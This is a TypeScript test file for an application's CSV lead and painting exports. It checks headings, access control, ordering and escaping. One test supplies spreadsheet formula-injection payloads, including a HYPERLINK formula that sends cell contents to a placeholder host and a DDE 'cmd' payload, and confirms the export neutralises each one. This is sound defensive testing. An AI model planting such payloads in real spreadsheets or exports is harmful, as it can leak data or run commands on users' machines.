// Lists as comma-separated values: what the workbook shows, to whom it shows it, and no text that a spreadsheet would run.
import { parseCsv } from 'hucre/csv';
import { readXlsx } from 'hucre/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runSql } from '../support/database.ts';
import type { Caller } from '../support/server.ts';
import { type TwoAgencies, twoAgencies } from '../support/two-agencies.ts';
import { type Galleries, galleries, made } from './gallery.ts';

interface File {
  readonly response: Response;
  readonly text: string;
  /** Every cell as the text that stands there. */
  readonly rows: readonly (readonly string[])[];
}

async function take(url: string, caller: Caller, path: string, headers: Readonly<Record<string, string>> = {}): Promise<File> {
  const response = await fetch(`${url}/api/${path}`, { headers: { Authorization: `Bearer ${caller.token}`, ...headers } });
  // Decoded by hand: the mark at the beginning is to be seen.
  const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(await response.arrayBuffer());
  const rows = response.ok ? parseCsv(text, { delimiter: ',' }).map((row) => row.map((cell) => String(cell ?? ''))) : [];
  return { response, text, rows };
}

describe('of leads', () => {
  let scene: TwoAgencies;
  beforeAll(async () => {
    scene = await twoAgencies();
  });
  afterAll(() => scene?.server.stop());
  const exported = (query: string, caller = scene.manager, headers = {}) => take(scene.server.url, caller, `agencylead/csv?${query}`, headers);
  const where = (Field: string, Value1: string) => `userConditions=${encodeURIComponent(JSON.stringify([{ Field, Condition: 'Equal', Value1 }]))}`;

  it('has one line of headings for a list that is empty', async () => {
    const { response, text, rows } = await exported(`viewId=3&${where('FirstName', 'Nobody')}`);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toBe(`attachment; filename="agencylead.csv"; filename*=UTF-8''Leads.csv`);
    expect(text).toBe('\uFEFFName,Status,Next contact,Assigned to,Tags,Source,Office,Created\r\n');
    expect(rows).toHaveLength(1);
    const portuguese = await exported(`viewId=3&${where('FirstName', 'Nobody')}`, scene.manager, { 'User-Language': 'pt' });
    expect(portuguese.rows[0]?.[0]).toBe('Nome');
    expect(portuguese.response.headers.get('Content-Disposition')).toContain("UTF-8''Leads.csv");
  });

  it('shows what the workbook shows, row by row', async () => {
    await scene.addLeads([
      { FirstName: 'Same', LastName: 'One', NextContactDate: '2025-03-07', Tags: ['vip', 'a,b'], Status: scene.one.statuses.get('waiting') },
      { FirstName: 'Same', LastName: 'Two' },
    ]);
    const query = `${where('FirstName', 'Same')}&orderBy=LastName`;
    const { rows } = await exported(query);
    const response = await fetch(`${scene.server.url}/api/agencylead/excel?${query}`, { headers: { Authorization: `Bearer ${scene.manager.token}` } });
    const sheet = (await readXlsx(new Uint8Array(await response.arrayBuffer()))).sheets[0]?.rows ?? [];
    const visible = (cell: unknown, heading: unknown): string => {
      if (cell === null || cell === undefined) return '';
      if (!(cell instanceof Date)) return String(cell);
      return heading === 'Created' ? cell.toISOString() : cell.toISOString().slice(0, 10);
    };
    const ofSheet = sheet.map((row, index) => (index === 0 ? row.map(String) : row.map((cell, column) => visible(cell, sheet[0]?.[column]))));
    const created = rows[0]?.indexOf('Created') ?? -1;
    // A sheet's day has fewer digits than an instant.
    const without = (table: readonly (readonly string[])[]) => table.map((row) => row.filter((_, index) => index !== created));
    expect(without(rows)).toEqual(without(ofSheet.map((row) => [...row, ...Array<string>((rows[0]?.length ?? 0) - row.length).fill('')])));
    expect(rows[1]).toEqual(expect.arrayContaining(['Same One', 'Waiting', '2025-03-07', 'vip, "a,b"']));
    expect(rows[1]?.[created]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}\+1[01]:00$/);
  });

  it('has more rows than one batch, each once and in order', async () => {
    await scene.addLeads(Array.from({ length: 1203 }, (_, index) => ({ FirstName: 'Many', LastName: String(index).padStart(4, '0') })));
    const { rows } = await exported(`viewId=3&${where('FirstName', 'Many')}&orderBy=LastName`);
    expect(rows.slice(1).map((row) => row[0])).toEqual(Array.from({ length: 1203 }, (_, index) => `Many ${String(index).padStart(4, '0')}`));
    expect((await exported(`viewId=3&${where('FirstName', 'Many')}&orderBy=LastName&skip=1200&take=2`)).rows.slice(1).map((row) => row[0])).toEqual([
      'Many 1200',
      'Many 1201',
    ]);
  });

  it('opens by a ticket, once; to nobody else; and shows no row of another agency', async () => {
    const path = '/api/agencylead/csv?viewId=3';
    const { access_token: ticket } = (await scene.manager.post<{ access_token: string }>('/api/document/ticket', { Path: path })).body;
    const open = async () => (await fetch(`${scene.server.url}${path}&access_token=${ticket}`)).status;
    expect([await open(), await open()]).toEqual([200, 401]);
    expect((await fetch(`${scene.server.url}${path}`)).status).toBe(401);
    expect((await exported('viewId=3', scene.other)).rows).toHaveLength(1);
  });

  it('refuses as other reads do: what may not be read, what is not there, and conditions that are none', async () => {
    const ask = async (path: string, caller = scene.clerk) => {
      const { response, text } = await take(scene.server.url, caller, path);
      return [response.status, (JSON.parse(text) as { Code: string }).Code];
    };
    expect(await ask('registerimport/csv')).toEqual([403, 'access.forbidden']);
    expect(await ask('nothing/csv')).toEqual([404, 'request.unknown-path']);
    expect(await ask('institution/2147483647/institutioncourse/csv')).toEqual([404, 'record.not-found']);
    expect(await ask('agencylead/csv?userConditions=%7B')).toEqual([400, 'request.malformed']);
    expect((await ask('agencylead/csv?viewId=99999'))[0]).toBe(400);
    expect((await scene.manager.post('/api/agencylead/csv')).status).toBe(404);
  });
});

describe('of every kind of field', () => {
  let scene: Galleries;
  beforeAll(async () => {
    scene = await galleries();
    const ArtistId = await made(scene.keeper, 'artist', { First: '=Art', Last: 'Ist' });
    await made(scene.keeper, 'painting', {
      Title: 'Loud',
      ArtistId,
      Price: 999999999999.99,
      HangsUntil: '2025-03-07',
      Tags: ['oil', '=1+1'],
      IsPublic: true,
    });
    await made(scene.keeper, 'painting', { Title: 'Quiet', ArtistId, Price: -0.1, Tags: ['=1+1'] });
  });
  afterAll(() => scene?.stop());
  const loadRecords = async (caller: Caller): Promise<Record<string, string>[]> => {
    const { rows } = await take(scene.server.url, caller, 'painting/csv?orderBy=Title');
    const [heading = [], ...others] = rows;
    return others.map((row) => Object.fromEntries(heading.map((name, index) => [name, row[index] ?? ''])));
  };

  it('keeps every digit of a number, negative ones without a sign in front, days and instants as ISO 8601', async () => {
    const [loud, quiet] = await loadRecords(scene.keeper);
    expect(loud).toEqual({
      Name: 'Loud',
      Code: '',
      Artist: "'=Art Ist",
      Style: '',
      Price: '999999999999.99',
      'Is public': 'true',
      'Hangs until': '2025-03-07',
      Tags: 'oil, =1+1',
    });
    expect(quiet).toMatchObject({ Price: '-0.10', 'Hangs until': '', 'Is public': 'true', Tags: "'=1+1" });
  });

  it('leaves out the rows and columns that its reader may not see', async () => {
    const seen = await loadRecords(scene.clerk);
    expect(seen.map((row) => row['Name'])).toEqual(['Quiet']);
    expect(seen[0]).not.toHaveProperty('Price');
    const requested = async (name: string) => {
      const { response, text } = await take(scene.server.url, scene.clerk, `painting/csv?orderBy=${name}`);
      return `${response.status} ${text.replace(/"RequestId":"[^"]*"/, '').replaceAll(name, 'NAME')}`;
    };
    expect(await requested('Price')).toBe(await requested('Pryce'));
  });

  it('gives back every text as it was entered, but for the sign in front of what would be a formula', async () => {
    const same = ['Ana', 'José 李小龍 🙂', 'a.b-c', '1e5', '007', '5 - 3', "O'Neill", 'a,b', 'say "no"', '"', '""', 'a;b', ',', '","'];
    const inside = ['two\nlines', 'two\r\nlines', 'tab\tinside', 'cr\rinside', ' space first', 'space last '];
    const formulas = ['=1+1', '=HYPERLINK("http://x.example?"&A1,"y")', '+61 400', '-2+3', '@SUM(1)', "=cmd|' /C calc'!A0", '=a,"b"\n=c', '-', '\u00a0=1'];
    const blankFirst = ['\t=1', '\r=1', ' =1', '\n@x', '\ttab first', '\r\n\t -x'];
    const given = [...same, ...inside, ...formulas, ...blankFirst];
    const ArtistId = await made(scene.keeper, 'artist', { First: 'Text' });
    const ids: number[] = [];
    for (const index of given.keys()) ids.push(await made(scene.keeper, 'painting', { Title: `T${index}`, Code: `T${index}`, ArtistId }));
    // The door of writes trims; what came by imports may be blank in front.
    for (const [index, text] of given.entries())
      await runSql(
        scene.database.ownerUrl,
        `update "Painting" set "Code" = convert_from('\\x${Buffer.from(text).toString('hex')}', 'utf8') where "Id" = ${ids[index]}`,
      );
    const { rows, text } = await take(scene.server.url, scene.keeper, `artist/${ArtistId}/painting/csv`);
    const found = new Map(rows.map(([name = '', code]) => [name, code]));
    for (const [index, each] of given.entries()) expect(found.get(`T${index}`), each).toBe([...formulas, ...blankFirst].includes(each) ? `'${each}` : each);
    // Nothing is left to a reader's guess: a quote closes what it opened, and each line ends in both signs.
    expect(text.replace(/"(?:[^"]|"")*"/g, '').replaceAll('\r\n', '')).not.toMatch(/["\r\n\t]/);
    expect(text.endsWith('\r\n')).toBe(true);
  });
});
